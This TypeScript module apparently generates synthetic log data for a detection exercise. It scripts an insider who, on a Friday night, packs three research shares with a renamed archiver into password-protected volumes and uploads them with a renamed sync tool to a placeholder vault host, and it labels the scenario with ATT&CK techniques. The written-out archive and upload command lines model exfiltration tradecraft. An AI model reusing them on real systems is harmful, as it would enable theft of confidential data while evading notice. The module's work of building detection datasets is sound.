import { invariant } from "../../../../shared/lib/invariant.ts";
import { connect, openClient, visitTls } from "../network/sessions.ts";
import type { Flow } from "../network/zeek-day.ts";
import { openStream } from "../random-stream.ts";
import { minuteUs, secondUs, localTime } from "../world/calendar.ts";
import { issuers, type Destination } from "../world/destinations.ts";
import { lateEveningDay, lateEveningHours, type Presence } from "../world/presence.ts";
import { fileServerOf, presenceAt, staticIp, type World } from "../world/world.ts";
import { oneOff, program } from "../windows/programs.ts";
import { connected, exit, launch, looked, wrote } from "../windows/sysmon.ts";
import { Diary, recorderFor, type Stage, type Story } from "./story.ts";

const vault: Destination = {
  name: "eu1.larkbox-vault.example",
  ips: ["198.51.100.74"],
  issuer: issuers[1],
  ttlS: 3600,
  bytes: 3_000,
  tls: true,
};
/** The archiver everyone has, under another name, and a synchroniser nobody has, under a plain one. */
const archiver = oneOff("C:\\Users\\{user}\\Downloads\\k\\dbupd.exe", {
  key: "packrat",
  company: "Packrat Archivers",
  product: "Packrat",
  description: "Packrat archive tool",
  originalName: "packrat.exe",
  versions: ["9.2.118.0"],
  signed: true,
});
const mover = oneOff("C:\\Users\\{user}\\Downloads\\k\\notehlp.exe", {
  key: "story/mover",
  company: "Driftsync Project",
  product: "Driftsync",
  description: "Driftsync cloud copy",
  originalName: "driftsync.exe",
  versions: ["1.68.2"],
});

/** Someone who has given notice packs the research drive on a Friday night and sends it to a private vault. */
export function departingEmployee(world: World): Story {
  const host = world.hosts.find((h) => h.owner?.leavesOn !== undefined);
  invariant(host !== undefined && host.owner !== undefined, "nobody has given notice");
  const startUs = localTime(host.owner.site, lateEveningDay, lateEveningHours.from) + 19 * minuteUs + 23_118_402;
  const diary = new Diary();
  const enact = (stage: Stage): void => {
    if (startUs < stage.day.startUs || startUs >= stage.day.endUs) return;
    const here = presenceAt(world, host, stage.day.index, startUs);
    invariant(here !== undefined, "the leaver's computer is off");
    diary.place(host, here.ip);
    takeAway(stage, here, startUs, diary);
  };
  return { enact, truth: () => diary.close(about) };
}

function takeAway(stage: Stage, here: Presence, startUs: number, diary: Diary): void {
  const to = recorderFor(stage, here.host, "departing");
  const desk = to.machine.desktop;
  invariant(desk !== undefined, "the leaver is not logged on");
  const { account, explorer } = desk;
  diary.account(account.name);
  const folder = `C:\\Users\\${account.sam}\\Downloads\\k`;
  const cmd = launch(to, {
    program: program("cmd"),
    parent: explorer,
    command: '"C:\\Windows\\system32\\cmd.exe"',
    account,
    tsUs: startUs,
    directory: folder,
  });
  diary.process(here.host, cmd, "shell in the download folder");
  const shares = ["optics", "patents", "prototypes"];
  for (const [n, share] of shares.entries()) {
    const tsUs = startUs + (2 + n * 9) * minuteUs;
    const pack = launch(to, {
      program: archiver,
      parent: cmd,
      command: `dbupd.exe a -m0 -hp${to.random.hex(10)} -v700m C:\\Users\\Public\\Libraries\\${share.slice(0, 2)}.dat R:\\research\\${share}`,
      account,
      tsUs,
      directory: folder,
    });
    diary.process(here.host, pack, "renamed archiver, encrypted volumes");
    wrote(to, pack, tsUs + 40 * secondUs, `C:\\Users\\Public\\Libraries\\${share.slice(0, 2)}.dat`);
    exit(to, pack, tsUs + 8 * minuteUs);
    connect(stage.net, to.random, here.ip, staticIp(fileServerOf(stage.world, here.host)), tsUs, {
      port: 445,
      proto: "tcp",
      service: "gssapi,smb,krb",
      out: 4.2e6,
      back: to.random.int(2.1e9, 3.4e9),
      durationUs: 8 * minuteUs,
    });
  }
  const copyUs = startUs + 31 * minuteUs;
  const copy = launch(to, {
    program: mover,
    parent: cmd,
    command: "notehlp.exe copy C:\\Users\\Public\\Libraries v:b --transfers 4 --no-traverse --config k.conf",
    account,
    tsUs: copyUs,
    directory: folder,
  });
  diary.process(here.host, copy, "renamed synchroniser that uploads the archives");
  looked(to, copy, copyUs + secondUs, vault.name, vault.ips);
  upload(stage, here, copyUs + 2 * secondUs, (flow) => connected(to, copy, flow), diary);
}

function upload(stage: Stage, here: Presence, fromUs: number, note: (flow: Flow) => void, diary: Diary): void {
  const client = openClient(stage.world, here.host, here.ip, openStream(stage.world.seed, "story/upload"));
  const { random } = client;
  let tsUs = fromUs;
  for (let n = 0; n < 44; n++) {
    const out = random.int(1.1e8, 2.3e8);
    const durationUs = Math.round((out / 9e6) * secondUs);
    const flow = visitTls(stage.net, client, tsUs, vault, { out, back: random.int(2_000, 4_000), durationUs, stack: "go" });
    if (n % 11 === 0) note(flow);
    diary.transfer(here.ip, vault.name, stage.day.date, tsUs);
    tsUs += Math.round(durationUs * 0.27) + random.int(3, 25) * secondUs;
  }
}

const about = {
  id: "departing-employee",
  title: "Friday night at the office",
  narrative:
    "A researcher who leaves on 27 March comes back on Friday 20 March after ten in the evening, packs three research shares with a renamed archiver into encrypted volumes, and uploads more than six gigabytes to a vault no one in the company has used, with a synchroniser under a false name.",
  techniques: [
    { id: "T1039", name: "Data from Network Shared Drive" },
    { id: "T1560.001", name: "Archive via Utility" },
    { id: "T1036.003", name: "Rename Legitimate Utilities" },
    { id: "T1567.002", name: "Exfiltration to Cloud Storage" },
  ],
} as const;
